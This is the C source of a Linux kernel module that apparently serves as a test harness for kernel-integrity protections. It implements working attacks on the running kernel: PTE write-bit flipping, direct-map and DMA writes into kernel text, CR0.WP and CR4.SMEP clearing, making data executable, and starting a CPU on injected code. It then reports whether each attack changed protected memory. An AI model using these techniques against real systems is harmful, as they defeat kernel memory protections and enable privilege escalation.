// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * Attacks on the running kernel, from a module: what an exploit could do once it can execute a few kernel writes. One per
 * load: insmod attack.ko what=NAME target=ADDRESS room=BYTES. Where in the target is chosen at random each time. The result is
 * one line "attack NAME: gpa=... before=... after=... spare=...: CHANGED" (or unchanged, or what a register holds); spare says
 * whether the same instruction works on a page of our own. rmmod before the next one.
 *
 * Each attack runs in a thread of its own: a denied one may end it, and insmod must not end with it.
 */
#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/delay.h>
#include <linux/init.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/mman.h>
#include <linux/module.h>
#include <linux/random.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/version.h>
#include <asm/io.h>
#include <asm/msr.h>
#include <asm/pgtable.h>
#include <asm/special_insns.h>

#define CODE		"\xb8\x2a\x00\x00\x00\xc3"	/* mov $42,%eax; ret */
#define LOW_PAGE	0x50000ul			/* reserved by the kernel, used by nobody */
#define SECTOR		512

static char *what = "none";
static char *disk = "/dev/vda";
static unsigned long target, room = 1, helper;
module_param(what, charp, 0);
module_param(disk, charp, 0);
module_param(target, ulong, 0);		/* kernel text or rodata to change */
module_param(room, ulong, 0);		/* how much of it there is */
module_param(helper, ulong, 0);		/* set_memory_x, where an attack calls it */

static u8 *spare;			/* a page that nobody protects */
static void __user *user_page;
static struct mm_struct *user_mm;
static struct task_struct *runner;
static bool was_told;			/* the attack came to its end */

/* With an entry in the exception table: a denied store is reported and the guest goes on. */
static int try_store(void *where, u8 value)
{
	int err = -EFAULT;

	asm volatile("1: movb %2, (%1)\n   xorl %0, %0\n2:\n" _ASM_EXTABLE(1b, 2b) : "+r" (err) : "r" (where), "q" (value) : "memory");
	return err;
}

static u8 read_byte(void *where)
{
	u8 v = 0;

	copy_from_kernel_nofault(&v, where, 1);
	return v;
}

static u64 read_word(unsigned long where)
{
	u64 v = 0;

	copy_from_kernel_nofault(&v, (void *)(where & ~7ul), 8);
	return v;
}

static u64 phys_of(unsigned long va)
{
	unsigned int level;
	pte_t *pte = lookup_address(va, &level);

	if (!pte)
		return 0;
	return ((u64)pte_pfn(*pte) << PAGE_SHIFT) + (va & (level == PG_LEVEL_2M ? ~PMD_MASK : ~PAGE_MASK));
}

static void open_pte(unsigned long va)
{
	unsigned int level;
	pte_t *pte = lookup_address(va, &level);

	if (!pte)
		return;
	WRITE_ONCE(*pte, __pte(pte_val(*pte) | _PAGE_RW | _PAGE_DIRTY));
	asm volatile("invlpg (%0)" :: "r" (va) : "memory");
}

/* The direct map's view of the target. It is read-only there, too: opened as an attacker would. */
static void *alias(void)
{
	void *p = __va(phys_of(target));

	open_pte((unsigned long)p);
	return p;
}

/* (a) flip the PTE of the page and store */
static int flip_pte(void *at)
{
	if (at == spare)
		return try_store(spare, 1);
	open_pte(target);
	return try_store((void *)target, read_byte((void *)target) ^ 1);
}

/* (b) through the direct map */
static int direct_map(void *at)
{
	return try_store(at, read_byte(at) ^ 1);
}

/* (c) port input; the CMOS status registers answer something, and it must differ from what is there */
static int port_input(void *at)
{
	u8 *p = at, byte;
	int err = 0;

	outb(0x0d, 0x70);
	byte = inb(0x71);
	while (read_byte(p) == byte && p < (u8 *)at + 64)
		p++;
	outb(0x0d, 0x70);
	asm volatile("1: rep insb\n2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : "+D" (p), "+r" (err) : "c" (1ul), "d" (0x71) : "memory");
	return err;
}

/* (d) a device reads a disk there */
static int disk_read(void *at)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 9, 0)
	struct file *file = bdev_file_open_by_path(disk, BLK_OPEN_READ, NULL, NULL);
	struct block_device *bdev = IS_ERR(file) ? NULL : file_bdev(file);
#else
	struct block_device *bdev = blkdev_get_by_path(disk, FMODE_READ, NULL);
#endif
	struct bio_vec vec;
	struct bio bio;
	int err;

	if (IS_ERR_OR_NULL(bdev))
		return -ENODEV;
	bio_init(&bio, bdev, &vec, 1, REQ_OP_READ);
	bio.bi_iter.bi_sector = 0;
	__bio_add_page(&bio, virt_to_page(at), SECTOR, offset_in_page(at));
	err = submit_bio_wait(&bio);
	bio_uninit(&bio);
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 9, 0)
	bdev_fput(file);
#else
	blkdev_put(bdev, FMODE_READ);
#endif
	return err;
}

/* (e) the hypervisor writes a clock there */
static int wall_clock(void *at)
{
	wrmsrl_safe(0x4b564d00, __pa(at) & ~3ull);
	return 0;
}

/* (f) a processor is started in real mode on code of ours in low memory. It must be offline. */
static void send_ipi(u32 icr, u32 apic_id)
{
	u64 base;
	void __iomem *apic;

	rdmsrl(MSR_IA32_APICBASE, base);
	if (base & X2APIC_ENABLE) {
		wrmsrl(0x830, (u64)apic_id << 32 | icr);
		return;
	}
	apic = ioremap(0xfee00000, PAGE_SIZE);
	if (!apic)
		return;
	writel(apic_id << 24, apic + 0x310);
	writel(icr, apic + 0x300);
	iounmap(apic);
}

static int init_sipi(void *at)
{
	static const u8 code[] = { 0x2e, 0xc7, 0x06, 0x00, 0x01, 0x34, 0x12, 0xf4, 0xeb, 0xfd };	/* movw $0x1234,%cs:0x100; hlt */
	u8 *low = __va(LOW_PAGE);
	u16 mark = 0;
	int i;

	memset(low, 0, PAGE_SIZE);
	memcpy(low, code, sizeof(code));
	send_ipi(0x4500, 1);
	msleep(20);
	send_ipi(0x4600 | LOW_PAGE >> PAGE_SHIFT, 1);
	/* The host may be busy: up to two seconds. */
	for (i = 0; i < 40 && !mark; i++) {
		msleep(50);
		memcpy(&mark, low + 0x100, 2);
	}
	send_ipi(0x4500, 1);
	pr_info("attack %s: the mark is %04x: %s\n", what, mark, mark ? "CHANGED" : "unchanged");
	return 0;
}

/* (g) raw control registers */
static int clear_wp(void *at)
{
	unsigned long cr0 = read_cr0();

	asm volatile("1: mov %0, %%cr0\n2:\n" _ASM_EXTABLE(1b, 2b) :: "r" (cr0 & ~X86_CR0_WP) : "memory");
	asm volatile("mov %%cr0, %0" : "=r" (cr0));
	pr_info("attack %s: WP is %d: %s\n", what, !!(cr0 & X86_CR0_WP), cr0 & X86_CR0_WP ? "unchanged" : "CHANGED");
	if (!(cr0 & X86_CR0_WP))
		asm volatile("mov %0, %%cr0" :: "r" (cr0 | X86_CR0_WP) : "memory");
	return 0;
}

static unsigned long without_smep(void)
{
	unsigned long cr4 = __read_cr4();

	asm volatile("1: mov %0, %%cr4\n2:\n" _ASM_EXTABLE(1b, 2b) :: "r" (cr4 & ~X86_CR4_SMEP) : "memory");
	return cr4;
}

static int clear_smep(void *at)
{
	unsigned long cr4, now;

	preempt_disable();
	cr4 = without_smep();
	asm volatile("mov %%cr4, %0" : "=r" (now));
	asm volatile("mov %0, %%cr4" :: "r" (cr4) : "memory");
	preempt_enable();
	pr_info("attack %s: SMEP is %d: %s\n", what, !!(now & X86_CR4_SMEP), now & X86_CR4_SMEP ? "unchanged" : "CHANGED");
	return 0;
}

static void tell_call(int ret)
{
	pr_info("attack %s: the new code gave %d: %s\n", what, ret, ret == 42 ? "RAN" : "did not run");
}

/* (h) new code: data made executable by the kernel's own function */
static int make_exec(void *at)
{
	int (*set_memory_x)(unsigned long addr, int n) = (void *)helper;
	u8 *page = (u8 *)__get_free_page(GFP_KERNEL);
	int (*code)(void) = (void *)page;
	int ret;

	if (!page || !helper)
		return -ENOENT;
	memcpy(page, CODE, sizeof(CODE));
	ret = set_memory_x((unsigned long)page, 1);
	if (!ret)
		ret = code();
	tell_call(ret);
	return 0;
}

/* the same by the attacker's hand: the table says executable */
static int exec_data(void *at)
{
	u8 *page = (u8 *)__get_free_page(GFP_KERNEL);
	int (*code)(void) = (void *)page;
	unsigned int level;
	pte_t *pte;

	if (!page)
		return -ENOMEM;
	memcpy(page, CODE, sizeof(CODE));
	pte = lookup_address((unsigned long)page, &level);
	WRITE_ONCE(*pte, __pte(pte_val(*pte) & ~_PAGE_NX));
	asm volatile("invlpg (%0)" :: "r" (page) : "memory");
	tell_call(code());
	return 0;
}

/* (i) a jump to a page of the process, with SMEP out of the way if it can be */
static int user_jump(void *at)
{
	int (*code)(void) = (void __force *)user_page;
	unsigned long cr4;
	int ret;

	kthread_use_mm(user_mm);
	preempt_disable();
	cr4 = without_smep();
	ret = code();
	asm volatile("mov %0, %%cr4" :: "r" (cr4) : "memory");
	preempt_enable();
	kthread_unuse_mm(user_mm);
	tell_call(ret);
	return 0;
}

enum { STORE = 1, BY_ALIAS = 2 };
static const struct attack { const char *name; int (*fn)(void *at); int flags; } attacks[] = {
	{ "flip-pte", flip_pte, STORE },
	{ "direct-map", direct_map, STORE | BY_ALIAS },
	{ "port-input", port_input, STORE | BY_ALIAS },
	{ "disk-read", disk_read, STORE | BY_ALIAS },
	{ "wall-clock", wall_clock, STORE | BY_ALIAS },
	{ "init-sipi", init_sipi, 0 },
	{ "clear-wp", clear_wp, 0 },
	{ "clear-smep", clear_smep, 0 },
	{ "make-exec", make_exec, 0 },
	{ "exec-data", exec_data, 0 },
	{ "user-jump", user_jump, 0 },
};

static bool works_on_spare(const struct attack *a)
{
	u64 before = *(volatile u64 *)spare;

	a->fn(spare);
	return before != *(volatile u64 *)spare;
}

static int run(void *arg)
{
	const struct attack *a = arg;
	u64 before, after;
	bool works;
	int ret;

	if (!(a->flags & STORE)) {
		a->fn(NULL);
		was_told = true;
		return 0;
	}
	works = works_on_spare(a);
	target += get_random_u32() % room;
	target &= ~7ul;
	before = read_word(target);
	ret = a->fn(a->flags & BY_ALIAS ? alias() : (void *)target);
	after = read_word(target);
	pr_info("attack %s: gpa=%llx before=%016llx after=%016llx spare=%s (%d): %s\n", what, phys_of(target), before, after,
		works ? "works" : "FAILED", ret, before == after ? "unchanged" : "CHANGED");
	was_told = true;
	return 0;
}

static int prepare(void)
{
	unsigned long at;

	spare = (u8 *)get_zeroed_page(GFP_KERNEL);
	if (!spare)
		return -ENOMEM;
	at = vm_mmap(NULL, 0, PAGE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_ANONYMOUS | MAP_PRIVATE, 0);
	if (IS_ERR_VALUE(at) || copy_to_user((void __user *)at, CODE, sizeof(CODE)))
		return -EFAULT;
	user_page = (void __user *)at;
	user_mm = current->mm;
	return 0;
}

/* Until the thread has left our text, by its end or by an oops: no clock tells a slow host from a denied attack. */
static bool has_ended(void)
{
	int i;

	for (i = 0; i < 1000; i++) {
		if (READ_ONCE(runner->exit_state))
			return true;
		msleep(20);
	}
	return false;
}

static int __init attack_init(void)
{
	unsigned int i;
	int err = prepare();

	for (i = 0; !err && i < ARRAY_SIZE(attacks); i++) {
		struct task_struct *t;

		if (strcmp(what, attacks[i].name))
			continue;
		t = kthread_create(run, (void *)&attacks[i], "attack");
		if (IS_ERR(t))
			return PTR_ERR(t);
		runner = get_task_struct(t);
		wake_up_process(t);
		if (!has_ended() || !was_told)
			pr_info("attack %s: the thread did not come back: did not run\n", what);
		return 0;
	}
	pr_info("attack: there is no '%s'\n", what);
	return err ? err : -EINVAL;
}
module_init(attack_init);

static void __exit attack_exit(void)
{
	put_task_struct(runner);
}
module_exit(attack_exit);

MODULE_LICENSE("Dual MIT/GPL");
MODULE_DESCRIPTION("attacks on the kernel that holds it");
